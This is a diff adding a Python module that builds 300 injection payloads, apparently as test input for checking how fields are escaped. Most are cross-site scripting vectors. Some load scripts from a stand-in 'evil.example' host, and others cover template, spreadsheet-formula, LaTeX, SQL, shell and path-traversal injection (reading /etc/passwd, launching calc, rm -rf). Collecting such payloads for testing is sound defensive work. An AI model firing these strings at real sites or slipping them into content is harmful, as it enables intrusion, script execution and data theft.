@@ -1,0 +1,148 @@
+"""Three hundred texts that would run as a script, or as something else, wherever they are taken for more than text.
+
+Each is one line, as the fields want it. ``BROWSER`` are those that a browser runs by itself when they become HTML.
+"""
+
+#: What runs, in HTML or one step from it.
+_RUNS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script/x>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)//",
+    "<img src='x' onerror='alert(1)'>",
+    '<img src="x" onerror="alert(1)">',
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+    "<svg><use href=data:image/svg+xml,x#x></svg>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "<math><mtext><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe onload=alert(1)>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<a href=vbscript:x>x</a>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<style>*{background:url(javascript:alert(1))}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<plaintext>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><x/>",
+    "<x onclick=alert(1) style=position:fixed;inset:0>",
+    "<p style=background:url(//evil.example/)>",
+]
+#: How one gets out of where a text stands, with what is put there.
+_OUT = [
+    '">{}',
+    "'>{}",
+    "`>{}",
+    "</script>{}",
+    "</title>{}",
+    "</textarea>{}",
+    "</style>{}",
+    "-->{}",
+    "]]>{}",
+    '\\"}}]{}',
+]
+#: What stands within attributes, scripts, addresses, templates, sheets, lines and markup of other kinds.
+_OTHERS = [
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus=alert(1) x="',
+    "' autofocus onfocus=alert(1) x='",
+    '" style="position:fixed" onclick="alert(1)',
+    "x onerror=alert(1)",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java&#115;cript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript://%0aalert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "//evil.example/x.js",
+    '";alert(1);//',
+    "';alert(1);//",
+    "`;alert(1);//",
+    "${alert(1)}",
+    "#{alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{ settings.SECRET_KEY }}",
+    "{% debug %}",
+    "{% load x %}",
+    "<%= 7*7 %>",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "＜script＞alert(1)＜/script＞",
+    "ʺ＞ﹸ﹤img src=x onerror=alert(1)﹥",
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "< script>alert(1)</ script>",
+    "<a title='&quot;><img src=x onerror=alert(1)>'>",
+    '=HYPERLINK("javascript:alert(1)","x")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=1+1",
+    "＝1+1",
+    "x;ATTACH:javascript:alert(1)",
+    "x\\nATTACH:javascript:alert(1)",
+    "END:VEVENT\\nBEGIN:VALARM",
+    'x} @article{y, title = {"z"',
+    "ER  - x TY  - JOUR",
+    "\\input{/etc/passwd} \\write18{x}",
+    '#set page(width: 1pt) #image("x") $x$ _y_ *z*',
+    "[x](javascript:alert(1))",
+    '![x](x"onerror="alert(1))',
+    '" ; <javascript:alert(1)> a "x',
+    '"@context":"//evil.example",',
+    "<http://evil.example> a <javascript:alert(1)> .",
+    "%s %(x)s {0} {x!r} %n",
+    "$(alert(1)) `id` ; rm -rf x | y & z",
+    "' OR 1=1 --",
+    "../../../etc/passwd",
+]
+
+
+def _made():
+    found = [*_RUNS, *_OTHERS]
+    for at in range(len(_RUNS) * len(_OUT)):
+        out, core = _OUT[at % len(_OUT)], _RUNS[(at * 7 + at // len(_OUT)) % len(_RUNS)]
+        text = out.replace("{}", core)
+        if text not in found:
+            found.append(text)
+    return found[:300]
+
+
+PAYLOADS = _made()
+BROWSER = [text for text in PAYLOADS if "onerror=alert" in text or "onload=alert" in text or "<script>alert" in text]
